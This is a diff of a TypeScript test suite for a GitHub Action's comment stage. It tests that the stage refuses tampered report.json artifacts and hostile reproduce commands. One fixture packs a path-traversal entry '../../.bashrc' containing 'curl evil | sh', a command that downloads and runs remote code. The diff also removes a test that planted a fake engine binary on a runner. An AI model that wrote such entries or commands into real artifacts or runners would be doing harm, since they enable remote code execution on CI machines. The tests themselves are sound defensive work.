@@ -1,19 +1,20 @@
 import { strToU8, zipSync } from 'fflate'
-import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import * as path from 'node:path'
-import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest'
 import { reproduceFlags, runCommentStage } from '../src/comment-stage.js'
-import { goVersion, sourceHash } from '../src/engine.js'
 import { describeEvent } from '../src/event.js'
 import { getInputs } from '../src/inputs.js'
-import { toolDir } from '../src/paths.js'
 import { FakeGitHub } from './support/fake-github.js'
 import { claimSize } from './support/zip.js'
 
 // Stage two of the fork-safe setup against the fake API, with a real
 // report.json from a recorded gate of the example service and this
-// action's own engine (built once into a temporary tool cache).
+// action's own engine (the suite's one build, copied where the stage
+// would build it: support/shared-engine.ts). That the stage builds a fresh
+// engine and never runs a cached one is comment-stage-engine.test.ts's.
+vi.mock('../src/engine.js', async (original) => (await import('./support/shared-engine.js')).withSharedEngine(await original()))
 const realReport = readFileSync(path.join(import.meta.dirname, '../engine/internal/hints/testdata/alloc-sprintf/report.json'))
 const headSha = 'f'.repeat(40)
 let tmp: string
@@ -83,7 +84,7 @@ describe('runCommentStage', () => {
     expect(outputs()).toContain(`verdict<<`)
     expect(outputs()).toContain(`\n${(JSON.parse(realReport.toString('utf8')) as { verdict: string }).verdict}\n`)
     expect(readFileSync(process.env.GITHUB_STEP_SUMMARY!, 'utf8')).toContain('perfgate')
-  }, 180_000)
+  })
 
   it("builds its comment's reproduce command from the workflow's inputs and the run's head commit, not from the artifact", async () => {
     const hostile = JSON.parse(realReport.toString('utf8')) as { command: string[]; build: { base: { revision: string } } }
@@ -100,32 +101,7 @@ describe('runCommentStage', () => {
       `\ngit checkout ${headSha}\nperfgate gate --config perf/perfgate.yml --base &lt;base&gt; --head . --out results/ --seed `,
     )
     expect(reproduce).not.toMatch(/attacker|badbad/)
-  }, 180_000)
-
-  it('never runs an engine binary found in the tool cache', async () => {
-    // What an earlier pull request's job on a self-hosted runner could leave
-    // where buildEngine looks for a cached engine.
-    const engineDir = path.join(import.meta.dirname, '../engine')
-    const planted = path.join(
-      toolDir(),
-      `perfgate-engine-${process.platform}-${process.arch}-${await goVersion()}-${await sourceHash(engineDir)}`,
-      'perfgate',
-    )
-    const ran = path.join(tmp, 'planted-ran')
-    mkdirSync(path.dirname(planted), { recursive: true })
-    writeFileSync(planted, `#!/bin/sh\ntouch '${ran}'\necho '<!-- perfgate:report -->'\necho 'PLANTED: all good, merge it'\n`)
-    chmodSync(planted, 0o755)
-    try {
-      gh.artifacts.set(42, [artifact({ 'report.json': realReport })])
-      await runCommentStage(inputs, event())
-      const [c] = gh.comments.get(7) ?? []
-      expect(c.body).not.toContain('PLANTED')
-      expect(c.body).toContain('`fmt.Sprintf`')
-      expect(existsSync(ran)).toBe(false)
-    } finally {
-      rmSync(path.dirname(planted), { recursive: true, force: true })
-    }
-  }, 180_000)
+  })
 
   it('refuses a report.json whose keys the engine and the action would read differently, naming the key', async () => {
     gh.artifacts.set(42, [artifact({ 'report.json': strToU8('{"schema":1,"verdict":"pass","reason":"","Verdict":"regression"}') })])
@@ -133,7 +109,7 @@ describe('runCommentStage', () => {
       /not a valid perfgate report: .*"verdict" and "Verdict" at the top level, which differ only in case/,
     )
     expect(gh.comments.get(7) ?? []).toHaveLength(0)
-  }, 180_000)
+  })
 
   it('refuses an artifact with a path that climbs out of the directory', async () => {
     gh.artifacts.set(42, [artifact({ 'report.json': realReport, '../../.bashrc': strToU8('curl evil | sh') })])
@@ -157,7 +133,7 @@ describe('runCommentStage', () => {
     gh.artifacts.set(42, [artifact({ 'report.json': strToU8('{"schema":"1","verdict":["regression"],"runs":"many"}') })])
     await expect(runCommentStage(inputs, event())).rejects.toThrow(/not a valid perfgate report/)
     expect(gh.comments.get(7) ?? []).toHaveLength(0)
-  }, 180_000)
+  })
 
   it('refuses when the event names another pull request than the API does for the head commit', async () => {
     gh.artifacts.set(42, [artifact({ 'report.json': realReport })])
